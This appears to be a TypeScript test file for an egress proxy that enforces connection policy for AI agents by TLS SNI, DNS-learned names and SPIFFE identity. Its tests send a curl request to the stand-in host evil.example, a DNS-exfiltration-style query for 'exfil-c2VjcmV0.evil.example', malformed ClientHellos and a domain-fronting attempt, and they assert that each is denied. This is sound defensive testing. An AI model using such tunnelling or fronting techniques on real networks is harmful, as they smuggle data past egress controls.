import { test, after, before } from 'node:test';
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import dgram from 'node:dgram';
import net from 'node:net';
import { startHarness, loopback, rawExchange, type Harness } from './helpers.js';
import { startDnsServer, startEchoServer, startTlsUpstream, type TlsUpstream } from './upstreams.js';
import { buildQuery } from '../../enforcer/dataplane/dns/wire.js';

const run = promisify(execFile);
let tlsUp: TlsUpstream;
let h: Harness;

before(async () => {
  tlsUp = await startTlsUpstream();
  h = await startHarness({ destination: loopback(tlsUp.port) });
});
after(async () => {
  await h.close();
  await tlsUp.close();
});

test('curl over HTTPS: decided on SNI (Host::"localhost"), relayed intact to the TLS server', async () => {
  const { stdout } = await run('curl', [
    '-sS',
    '--max-time',
    '20',
    '--cacert',
    tlsUp.certPath,
    `https://localhost:${h.proxy.port}/hello?tls`,
  ]);
  assert.equal(stdout, 'hello GET /hello?tls');
  const ev = (await h.events()).filter((e) => e.protocol === 'tls').at(-1)!;
  assert.equal(ev.action, 'Action::"connect"');
  assert.equal(ev.resource, 'Host::"localhost"');
  assert.equal(ev.decision, 'allow');
  assert.deepEqual(ev.policies, ['tcp-internal']);
});

test('node fetch over HTTPS (certificate verified end to end through the proxy)', async () => {
  const script = `fetch('https://localhost:${h.proxy.port}/hello?fetch').then(r => r.text()).then(t => process.stdout.write(t))`;
  const { stdout } = await run(process.execPath, ['-e', script], { env: { ...process.env, NODE_EXTRA_CA_CERTS: tlsUp.certPath } });
  assert.equal(stdout, 'hello GET /hello?fetch');
});

test('TLS to a name outside every zone is reset, and audited with the SNI', async () => {
  await assert.rejects(
    run('curl', [
      '-sS',
      '--max-time',
      '20',
      '--cacert',
      tlsUp.certPath,
      '--resolve',
      `evil.example:${h.proxy.port}:127.0.0.1`,
      `https://evil.example:${h.proxy.port}/`,
    ]),
    (err: { code?: number }) => err.code === 35 || err.code === 56,
  );
  const ev = (await h.events()).filter((e) => e.protocol === 'tls').at(-1)!;
  assert.equal(ev.resource, 'Host::"evil.example"');
  assert.equal(ev.decision, 'deny');
  assert.deepEqual(ev.findings, ['sni_unverified'], 'nothing corroborates an SNI the agent never resolved');
});

test('malformed and oversized ClientHellos are reset and audited; the proxy keeps serving', async () => {
  const bad = [
    Buffer.from([0x16, 0x03, 0x01, 0x00, 0x05, 0x01, 0x00, 0x00, 0x01, 0x00]), // handshake claims 1 byte of hello
    Buffer.from([0x16, 0x03, 0x01, 0xff, 0xff]), // record longer than TLS allows
    Buffer.concat([Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00, 0x01, 0xff, 0xff, 0xff]), Buffer.alloc(0x4000 - 4)]), // 16 MiB hello claimed
  ];
  for (const b of bad) {
    const r = await rawExchange(h.proxy.port, [b], 10_000);
    assert.ok(r.closed && r.data === '', 'closed without an answer');
  }
  // A hello split across reads byte by byte still parses (records split across reads).
  const ok = await run('curl', ['-sS', '--max-time', '20', '--cacert', tlsUp.certPath, `https://localhost:${h.proxy.port}/hello`]);
  assert.equal(ok.stdout, 'hello GET /hello');
  const reasons = (await h.events()).filter((e) => e.protocol === 'tls' && e.decision === 'deny').map((e) => e.reason ?? '');
  assert.ok(reasons.filter((r) => /ClientHello/.test(r)).length >= 2, reasons.join('; '));
  assert.equal(await h.settled(), 0);
});

test('opaque TCP: an echo to an internal endpoint is relayed; an unlisted endpoint is reset', async () => {
  const echo = await startEchoServer();
  const dir = await startHarness({
    destination: loopback(echo.port),
    tweaks: {
      entities: [{ uid: { type: 'Endpoint', id: `127.0.0.1:${echo.port}` }, attrs: {}, parents: [{ type: 'Zone', id: 'internal' }] }],
    },
  });
  try {
    const payload = Buffer.from([0x00, 0x01, 0x02, 0xfe, 0xff, ...Buffer.from(' opaque bytes')]);
    const r = await rawExchange(dir.proxy.port, [payload], 10_000, { endAfter: true });
    assert.equal(Buffer.from(r.data, 'latin1').toString('hex'), payload.toString('hex'));
    const ev = (await dir.events()).at(-1)!;
    assert.equal(ev.protocol, 'tcp');
    assert.equal(ev.resource, `Endpoint::"127.0.0.1:${echo.port}"`);
    assert.equal(ev.decision, 'allow');
    // Same echo, but the capsule does not list it.
    const r2 = await rawExchange(h.proxy.port, [payload], 10_000);
    void r2;
    const denied = await startHarness({ destination: loopback(echo.port) });
    try {
      const r3 = await rawExchange(denied.proxy.port, [payload], 10_000);
      assert.ok(r3.closed && r3.data === '' && r3.reset, 'reset, nothing relayed');
      assert.equal((await denied.events()).at(-1)!.decision, 'deny');
    } finally {
      await denied.close();
    }
    assert.equal(await dir.settled(), 0);
  } finally {
    await dir.close();
    await echo.close();
  }
});

function dnsQuery(port: number, name: string, qtype: number): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const s = dgram.createSocket('udp4');
    const t = setTimeout(() => {
      s.close();
      reject(new Error('no DNS answer'));
    }, 10_000);
    s.on('message', (m) => {
      clearTimeout(t);
      s.close();
      resolve(m);
    });
    s.send(buildQuery(0x1234, name, qtype), port, '127.0.0.1');
  });
}

test('DNS: allowed names are forwarded and learned; denied names get NXDOMAIN without reaching the resolver; later connects use the name', async () => {
  const resolver = await startDnsServer({ 'api.github.com': '140.82.112.5', 'db.corp.example': '127.0.0.2' });
  const echo = await startEchoServer('127.0.0.2');
  const dp = await startHarness({
    dns: true,
    dnsUpstream: `127.0.0.1:${resolver.port}`,
    destination: { address: '127.0.0.2', port: echo.port, family: 4 },
    tweaks: {
      entities: [
        {
          uid: { type: 'Host', id: 'db.corp.example' },
          attrs: {},
          parents: [
            { type: 'Zone', id: 'allowlisted' },
            { type: 'Zone', id: 'internal' },
          ],
        },
      ],
    },
  });
  try {
    const port = dp.dp.dnsAddress!.port;
    const ok = await dnsQuery(port, 'api.github.com', 1);
    assert.equal(ok.readUInt16BE(0), 0x1234);
    assert.equal(ok.readUInt16BE(2) & 0xf, 0, 'NOERROR');
    assert.equal(ok.readUInt16BE(6), 1, 'one answer relayed');
    assert.equal(dp.dp.names.nameFor('spiffe://corp.example/agents/coder', '140.82.112.5'), 'api.github.com');

    const denied = await dnsQuery(port, 'exfil-c2VjcmV0.evil.example', 1);
    assert.equal(denied.readUInt16BE(2) & 0xf, 3, 'NXDOMAIN');
    assert.ok(!resolver.seen.includes('exfil-c2VjcmV0.evil.example'), 'denied name never reached the resolver');
    const txt = await dnsQuery(port, 'api.github.com', 16);
    assert.equal(txt.readUInt16BE(2) & 0xf, 3, 'TXT is not an allowed qtype');

    // Garbage datagrams do not stop the front.
    const junk = dgram.createSocket('udp4');
    junk.send(Buffer.from('not dns at all'), port, '127.0.0.1');
    junk.send(Buffer.alloc(12, 0xff), port, '127.0.0.1');
    await new Promise((r) => setTimeout(r, 100));
    junk.close();

    // The connect to 127.0.0.2 is decided as Host::"db.corp.example" once the agent resolved it.
    await dnsQuery(port, 'db.corp.example', 1);
    const r = await rawExchange(dp.proxy.port, ['\x00tcp after dns'], 10_000, { endAfter: true });
    assert.equal(r.data, '\x00tcp after dns');
    const events = await dp.events();
    const dnsEvents = events.filter((e) => e.protocol === 'dns').map((e) => [e.resource, e.decision]);
    assert.deepEqual(dnsEvents, [
      ['Host::"api.github.com"', 'allow'],
      ['Host::"exfil-c2vjcmv0.evil.example"', 'deny'],
      ['Host::"api.github.com"', 'deny'],
      ['Host::"db.corp.example"', 'allow'],
    ]);
    const tcp = events.filter((e) => e.protocol === 'tcp').at(-1)!;
    assert.equal(tcp.resource, 'Host::"db.corp.example"');
    assert.equal(tcp.decision, 'allow');
  } finally {
    await dp.close();
    await echo.close();
    await resolver.close();
  }
});

test('domain fronting: an SNI the agent did not resolve the destination to is denied; one it did (even among several names on one IP) is allowed', async () => {
  const resolver = await startDnsServer({ 'db.corp.example': '127.0.0.2', 'front.corp.example': '127.0.0.2' });
  const echo = await startEchoServer('127.0.0.2');
  const internal = (id: string) => ({
    uid: { type: 'Host', id },
    attrs: {},
    parents: [
      { type: 'Zone', id: 'allowlisted' },
      { type: 'Zone', id: 'internal' },
    ],
  });
  const dp = await startHarness({
    dns: true,
    dnsUpstream: `127.0.0.1:${resolver.port}`,
    destination: { address: '127.0.0.2', port: echo.port, family: 4 },
    tweaks: { entities: [internal('db.corp.example'), internal('front.corp.example')] },
  });
  // curl sends a real ClientHello with the URL's name as SNI; the proxy decides on it and either
  // relays it to the echo server (the handshake then fails: it is an echo) or resets.
  const tlsTo = (name: string) =>
    run('curl', [
      '-sS',
      '--max-time',
      '20',
      '-k',
      '--resolve',
      `${name}:${dp.proxy.port}:127.0.0.1`,
      `https://${name}:${dp.proxy.port}/`,
    ]).catch(() => undefined);
  const lastTls = async () => (await dp.events()).filter((e) => e.protocol === 'tls').at(-1)!;
  try {
    const port = dp.dp.dnsAddress!.port;
    await dnsQuery(port, 'db.corp.example', 1);

    await tlsTo('front.corp.example');
    let ev = await lastTls();
    assert.equal(ev.resource, 'Host::"front.corp.example"');
    assert.equal(ev.decision, 'deny', 'the agent resolved 127.0.0.2 as db.corp.example, not front.corp.example');
    assert.deepEqual(ev.policies, ['tls-sni-matches-dns']);
    assert.deepEqual(ev.findings, ['sni_mismatch']);

    await tlsTo('db.corp.example');
    ev = await lastTls();
    assert.equal(ev.resource, 'Host::"db.corp.example"');
    assert.equal(ev.decision, 'allow');
    assert.equal(ev.findings, undefined);

    // A CDN-style IP answered for both names: once the agent resolved front too, its SNI matches.
    await dnsQuery(port, 'front.corp.example', 1);
    await tlsTo('front.corp.example');
    ev = await lastTls();
    assert.equal(ev.decision, 'allow');
    assert.deepEqual(dp.dp.names.namesFor('spiffe://corp.example/agents/coder', '127.0.0.2'), ['db.corp.example', 'front.corp.example']);
    assert.equal(await dp.settled(), 0);
  } finally {
    await dp.close();
    await echo.close();
    await resolver.close();
  }
});

test('unknown identity: every connection is denied and audited with no SPIFFE ID', async () => {
  const anon = await startHarness({ destination: loopback(tlsUp.port), facts: { pid: process.pid, cgroupPath: '/elsewhere' } as never });
  try {
    const r = await rawExchange(anon.proxy.port, ['GET /hello HTTP/1.1\r\nHost: localhost\r\n\r\n'], 10_000);
    assert.match(r.data, /^HTTP\/1\.1 403/);
    assert.match(r.data, /unknown identity/);
    const ev = (await anon.events()).at(-1)!;
    assert.equal(ev.spiffe_id, null);
    assert.equal(ev.reason, 'unknown identity');
    assert.equal(ev.pid, process.pid);
    void net;
  } finally {
    await anon.close();
  }
});
